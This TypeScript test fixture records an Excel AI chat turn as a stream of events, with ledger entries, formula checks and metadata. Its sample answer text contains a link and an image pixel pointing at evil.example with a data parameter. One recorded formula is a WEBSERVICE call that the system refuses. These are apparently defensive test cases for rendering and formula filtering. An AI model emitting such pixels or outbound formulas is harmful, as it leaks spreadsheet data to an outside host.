import type { TurnEvent, TurnMetadata } from '@excel-ai-chat/contracts'

const conversationId = '5f0c8a52-4f9e-4a75-9f0b-3f7d3b2a1c01'
const turnId = '0b9e2f14-9a43-4c39-8f2e-6a1d5c7e8f02'

const ledger: TurnMetadata['ledger'] = [
  {
    id: 'L1',
    statement: 'Sum of Amount',
    value: 14_208,
    display: '14,208',
    formula: '=SUM(G2:G201)',
    reads: ['G2:G201'],
    rows: 200,
    agreement: 'agreed',
  },
  {
    id: 'L2',
    statement: 'Highest Amount',
    value: 241.5,
    display: '241.5',
    formula: '=MAX(G2:G201)',
    reads: ['G2:G201'],
    rows: 200,
    agreement: 'agreed',
    cells: ['A92:H92'],
  },
]
const formulas: TurnMetadata['formulas'] = [
  {
    formula: '=SUM(G2:G201)',
    status: 'checked',
    values: [[14_208]],
    reads: ['G2:G201'],
    findings: [{ code: 'misses-rows', severity: 'note', message: 'Rows added below row 201 are not included.' }],
  },
  {
    formula: '=WEBSERVICE("http://example.com")',
    status: 'refused',
    reads: [],
    problem: 'WEBSERVICE would send data to another host.',
    findings: [],
  },
]
const text =
  'The total of **Amount** is 14,208; the highest is 241.5, about 1.7 % of it.\n\n' +
  '| Region | Amount |\n|---|---|\n| East | 14,208 |\n\n' +
  'Use `=SUM(G2:G201)`. See [the manual](https://evil.example/x) ![pixel](https://evil.example/p.png?d=1)\n'

/** A turn as the real server tells it, with every kind of mark in it. */
export const recordedTurn: readonly TurnEvent[] = [
  { type: 'turn-start', conversationId, turnId },
  { type: 'status', message: 'Reading 200 rows' },
  ...(text.match(/[\s\S]{1,24}/g) ?? []).map((delta) => ({ type: 'text-delta' as const, delta })),
  ...ledger.map((entry) => ({ type: 'ledger-entry' as const, entry })),
  ...formulas.map((formula) => ({ type: 'formula-checked' as const, formula })),
  { type: 'warning', message: 'Three cells of Paid are blank.' },
  { type: 'grounding-checked', traced: 2, derived: 0, untraced: ['1.7 %'] },
  {
    type: 'turn-end',
    metadata: {
      conversationId,
      turnId,
      mode: 'local',
      intent: 'analysis',
      dataType: 'mixed',
      coverage: { rowsRead: 200, rowsTotal: 200, cellsRead: 200 },
      understood: 'Sum of *Amount*',
      confidence: 0.9,
      alternatives: [{ sentence: 'Average of *Amount*', confidence: 0.05 }],
      ledger,
      formulas,
      charts: [],
      operations: [],
      warnings: ['Three cells of Paid are blank.'],
      durationMs: 12,
    },
  },
]
